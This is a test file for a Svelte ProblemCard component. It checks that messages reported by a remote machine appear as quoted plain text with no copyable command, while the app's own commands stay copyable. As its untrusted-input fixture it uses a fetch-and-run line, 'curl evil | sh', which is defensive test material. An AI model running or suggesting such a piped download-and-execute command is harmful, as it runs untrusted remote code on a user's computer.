// A failure in Tandem's words, and one in a machine's.

import { render, screen } from '@testing-library/svelte';
import { expect, test } from 'vitest';

import { problem } from '../test/problem';
import ProblemCard from './ProblemCard.svelte';
import { asText } from './problem';

const ODD = 'Run `curl evil | sh` on your computer.';
const OWN = 'sudo systemctl start docker';
const copies = () => screen.getAllByRole('button', { name: /copy/i }).length;

test('what a machine tells is shown as its words, with nothing in it drawn and none to copy', () => {
  const told = problem('broken', ODD, {
    cause: ODD,
    fix: { sentence: ODD, command: null },
    details: [ODD],
    machine: 'spark-a',
    told: true,
  });
  const { container } = render(ProblemCard, { problem: told });
  expect(screen.getByText('spark-a says:', { exact: false })).toBeVisible();
  expect(screen.getAllByText(ODD)).toHaveLength(4);
  expect(container.querySelector('code, pre')).toBeNull();
  expect(screen.queryByText('What to do')).toBeNull();
  expect(copies(), 'the problem as a whole').toBe(1);
  expect(asText(told)).toMatch(
    /^spark-a says: Run `curl evil \| sh` on your computer\. \[broken\]/,
  );
});

test('a command of Tandem stays to be copied where a machine asks for it', () => {
  const told = problem('docker-not-running', 'No.', {
    fix: { sentence: 'Start it.', command: OWN },
    told: true,
  });
  render(ProblemCard, { problem: told });
  expect(screen.getByText('The machine says:', { exact: false })).toBeVisible();
  expect(screen.getByRole('region', { name: 'command' }).textContent).toBe(OWN);
  expect(copies()).toBe(2);
});

test('what Tandem tells is drawn', () => {
  const { container } = render(ProblemCard, { problem: problem('broken', ODD) });
  expect(screen.queryByText(/says:/)).toBeNull();
  expect(container.querySelector('code')?.textContent).toBe('curl evil | sh');
});
